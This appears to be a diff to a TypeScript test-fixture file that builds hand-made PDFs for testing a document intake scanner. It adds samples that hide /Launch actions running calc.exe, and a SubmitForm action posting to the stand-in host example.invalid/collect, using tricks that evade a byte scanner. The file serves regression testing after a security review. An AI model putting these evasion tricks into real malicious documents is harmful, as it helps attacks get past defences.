@@ -1,5 +1,5 @@
 /** Small synthetic files for intake tests: PNGs written by hand, hostile PDFs, and real fax paths. */
-import { deflateSync, crc32 } from 'node:zlib';
+import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
 
 function chunk(type: string, data: Buffer): Buffer {
   const len = Buffer.alloc(4);
@@ -65,6 +65,96 @@ export const hostilePdfs = {
     ]),
   encrypted: () =>
     handmadePdf(['<< /Type /Catalog /Pages 2 0 R >>', ...PAGES, '<< /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >>'], '/Encrypt 4 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]'),
+};
+
+/**
+ * A PDF whose object 4 lives compressed in object stream 5, found through a cross-reference
+ * stream (object 6). `streamKeyword` is what follows the stream dictionary ("stream\n" is the
+ * usual form; pdf.js accepts anything up to the end of the line), `typed` writes /Type /ObjStm
+ * (pdf.js does not need it), `dataPrefix` goes before the compressed bytes inside the stream.
+ */
+export function objectStreamPdf(
+  inner: string,
+  opts: { catalogExtra?: string; pageExtra?: string; streamKeyword?: string; typed?: boolean; endstreamInData?: boolean } = {},
+): Buffer {
+  // With `endstreamInData`, a stored (uncompressed) deflate block comes first and holds the word
+  // "endstream": a scanner that ends the stream at the first "endstream" misses the rest.
+  const header = opts.endstreamInData ? '4 0 endstream ' : '4 0 ';
+  const decoded = Buffer.from(header + inner, 'latin1');
+  let data: Buffer;
+  if (opts.endstreamInData) {
+    const lead = Buffer.from(header, 'latin1');
+    const stored = Buffer.concat([Buffer.from([0x00, lead.length & 0xff, lead.length >> 8, ~lead.length & 0xff, (~lead.length >> 8) & 0xff]), lead]);
+    let a = 1;
+    let b = 0;
+    for (const byte of decoded) {
+      a = (a + byte) % 65521;
+      b = (b + a) % 65521;
+    }
+    const adler = Buffer.alloc(4);
+    adler.writeUInt32BE(((b << 16) | a) >>> 0);
+    data = Buffer.concat([Buffer.from([0x78, 0x01]), stored, deflateRawSync(Buffer.from(inner, 'latin1')), adler]);
+  } else {
+    data = deflateSync(decoded);
+  }
+  const first = header.length;
+  const objects = [
+    `<< /Type /Catalog /Pages 2 0 R ${opts.catalogExtra ?? ''} >>`,
+    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] ${opts.pageExtra ?? ''} >>`,
+  ];
+  let body = Buffer.from('%PDF-1.7\n', 'latin1');
+  const offsets: number[] = [];
+  objects.forEach((o, i) => {
+    offsets.push(body.length);
+    body = Buffer.concat([body, Buffer.from(`${i + 1} 0 obj\n${o}\nendobj\n`, 'latin1')]);
+  });
+  const objStmAt = body.length;
+  const type = opts.typed === false ? '' : '/Type /ObjStm ';
+  body = Buffer.concat([
+    body,
+    Buffer.from(`5 0 obj\n<< ${type}/N 1 /First ${first} /Filter /FlateDecode /Length ${data.length} >>\n${opts.streamKeyword ?? 'stream\n'}`, 'latin1'),
+    data,
+    Buffer.from('\nendstream\nendobj\n', 'latin1'),
+  ]);
+  const xrefAt = body.length;
+  const row = (type: number, a: number, b: number) => {
+    const r = Buffer.alloc(7);
+    r[0] = type;
+    r.writeUInt32BE(a, 1);
+    r.writeUInt16BE(b, 5);
+    return r;
+  };
+  const rows = Buffer.concat([row(0, 0, 65535), ...offsets.map((o) => row(1, o, 0)), row(2, 5, 0), row(1, objStmAt, 0), row(1, xrefAt, 0)]);
+  return Buffer.concat([
+    body,
+    Buffer.from(`6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length ${rows.length} >>\nstream\n`, 'latin1'),
+    rows,
+    Buffer.from(`\nendstream\nendobj\nstartxref\n${xrefAt}\n%%EOF\n`, 'latin1'),
+  ]);
+}
+
+/**
+ * PDFs shaped to slip past a byte scanner while pdf.js still reads them. Found by the security
+ * review: the reader's scan skipped from any "stream" + line break to the next "endstream", so
+ * the same words inside strings hid what lay between, and an object stream whose "stream"
+ * keyword had a space before the line break was never decompressed.
+ */
+export const evasivePdfs = {
+  launchBehindStrings: () =>
+    handmadePdf(['<< /Type /Catalog /Pages 2 0 R /Lang (stream\n) /OpenAction << /S /Launch /F (calc.exe) >> /PageMode (endstream) >>', ...PAGES]),
+  launchAnnotationBehindStrings: () =>
+    handmadePdf([
+      '<< /Type /Catalog /Pages 2 0 R >>',
+      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R] >>',
+      '<< /Type /Annot /Subtype /Link /Contents (stream\n) /Rect [0 0 612 792] /A << /S /Launch /F (calc.exe) >> /NM (endstream) >>',
+    ]),
+  launchInObjectStreamWithSpace: () => objectStreamPdf('<< /S /Launch /F (calc.exe) >>', { catalogExtra: '/OpenAction 4 0 R', streamKeyword: 'stream \r\n' }),
+  launchInUntypedObjectStream: () => objectStreamPdf('<< /S /Launch /F (calc.exe) >>', { catalogExtra: '/OpenAction 4 0 R', typed: false }),
+  launchAfterEndstreamInObjectStream: () => objectStreamPdf('<< /S /Launch /F (calc.exe) >>', { catalogExtra: '/OpenAction 4 0 R', endstreamInData: true }),
+  submitFormInObjectStreamBehindStrings: () =>
+    objectStreamPdf('<< /S /SubmitForm /F (https://example.invalid/collect) >>', { catalogExtra: '/OpenAction 4 0 R /Lang (stream\n)', pageExtra: '/Lang (endstream)' }),
 };
 
 export const REALDATA = '/work/shared/realdata';
